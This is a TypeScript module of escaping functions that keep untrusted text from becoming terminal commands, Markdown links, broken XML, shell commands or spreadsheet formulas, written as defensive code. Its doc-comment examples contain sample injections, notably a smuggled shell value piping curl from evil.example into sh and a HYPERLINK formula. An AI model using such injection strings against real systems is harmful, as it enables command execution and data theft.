/**
 * Escaping for every target the tool writes text from its input into: a
 * terminal, Markdown, XML (SVG), a shell command line, and a spreadsheet cell.
 * Part names, designer names, trace statements and passed-through cells come
 * from files the user did not write; none of them may turn into a terminal
 * command, a Markdown link, broken XML, a shell command or a spreadsheet
 * formula. Each renderer calls the function for its target, here, and nowhere
 * else writes its own.
 */

/**
 * C0 controls, DEL, C1 controls (0x9B is a one-byte CSI), bidi overrides and isolates, and the noncharacters
 * U+FFFE/U+FFFF.
 */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const UNSAFE_FOR_TERMINAL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufffe\uffff]/g;

/** `\x1b`, `\u202e`: a character shown as its code, so it is seen and does nothing. */
function codeOf(character: string): string {
  const code = character.codePointAt(0)!;
  return code <= 0xff ? `\\x${code.toString(16).padStart(2, "0")}` : `\\u${code.toString(16).padStart(4, "0")}`;
}

/**
 * Text from input, safe to print on a terminal: control characters (ESC,
 * CSI, CR, backspace, newline, tab …), bidi overrides and U+FFFE/U+FFFF are
 * shown as their codes (`\x1b`), so no input can move the cursor, recolour,
 * retitle or hide text.
 *
 * @example escapeTerminal("A\x1b[2J") === "A\\x1b[2J"
 */
export function escapeTerminal(text: string): string {
  return text.replace(UNSAFE_FOR_TERMINAL, codeOf);
}

/** Several lines for a terminal: each line escaped by `escapeTerminal`, the line breaks between them kept. */
export function escapeTerminalLines(text: string): string {
  return text.split("\n").map(escapeTerminal).join("\n");
}

/** Markdown punctuation that can start markup anywhere in a line (CommonMark backslash escapes). */
const MARKDOWN_INLINE = /[\\`*_[\]<>|~!&#]/g;

/**
 * Text from input, safe inside a Markdown paragraph, list item or table
 * cell: markup characters are backslash-escaped (no link, image, emphasis,
 * HTML, code span or table cell break can be formed), a line-starting list
 * or heading marker is escaped, and control characters are shown as codes.
 * Newlines become spaces (one block stays one block).
 *
 * @example escapeMarkdown("[click](https://evil.example)") === "\\[click\\](https://evil.example)"
 */
export function escapeMarkdown(text: string): string {
  const oneLine = escapeTerminal(text.replace(/\r\n|[\r\n]/g, " "));
  const inline = oneLine.replace(MARKDOWN_INLINE, (character) => `\\${character}`);
  // A block marker at the start of the text: "- x", "+ x", "---", "===", "1. x", "1) x" (a marker needs a space or the
  // end after it).
  return inline
    .replace(/^(\s*)([-+])(?=\s|$|[-\s]*$)/, "$1\\$2")
    .replace(/^(\s*)(=)(?=[=\s]*$)/, "$1\\$2")
    .replace(/^(\s*\d{1,9})([.)])(?=\s|$)/, "$1\\$2");
}

/** A code fence longer than any run of backticks in `text`, so the text cannot close it. */
export function markdownFence(text: string): string {
  const longest = Math.max(0, ...[...text.matchAll(/`+/g)].map((run) => run[0].length));
  return "`".repeat(Math.max(3, longest + 1));
}

/** Characters XML 1.0 does not allow at all (and lone surrogates): replaced by U+FFFD. */
const NOT_XML = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu;

/**
 * Text from input, safe in XML character data and in attribute values (either
 * quote): the five markup characters as entities, and characters XML 1.0
 * forbids (controls, U+FFFE/U+FFFF, lone surrogates) replaced by U+FFFD, so
 * the document stays well-formed whatever a part is called.
 *
 * @example escapeXml('<a href="x">') === "&lt;a href=&quot;x&quot;&gt;"
 */
export function escapeXml(text: string): string {
  return text
    .replace(NOT_XML, "\ufffd")
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&apos;");
}

/**
 * One argument for a POSIX shell command line: left as it is when it holds
 * only characters no shell treats specially, otherwise in single quotes
 * (a single quote inside as `'\''`). The empty string is `''`.
 *
 * @example shellQuote("x; curl evil.example|sh #") === "'x; curl evil.example|sh #'"
 * @example shellQuote("attestation.json") === "attestation.json"
 */
export function shellQuote(argument: string): string {
  if (/^[A-Za-z0-9_/.,:=@%+-]+$/.test(argument)) return argument;
  return `'${argument.replace(/'/g, "'\\''")}'`;
}

/** A plain number, which a spreadsheet reads as a number and never runs. */
const PLAIN_NUMBER = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;

/**
 * True when a spreadsheet opening the cell would read it as a formula: it
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP CSV
 * injection), and is not a plain number such as `-1.5`.
 */
export function startsLikeFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell);
}

/**
 * A CSV cell a spreadsheet will show as text, never run: a cell that starts
 * like a formula gets a leading `'` (the spreadsheet convention for "text").
 *
 * @example neutraliseSpreadsheetCell("=HYPERLINK(\"http://x\")") === "'=HYPERLINK(\"http://x\")"
 * @example neutraliseSpreadsheetCell("-1.5") === "-1.5"
 */
export function neutraliseSpreadsheetCell(cell: string): string {
  return startsLikeFormula(cell) ? `'${cell}` : cell;
}
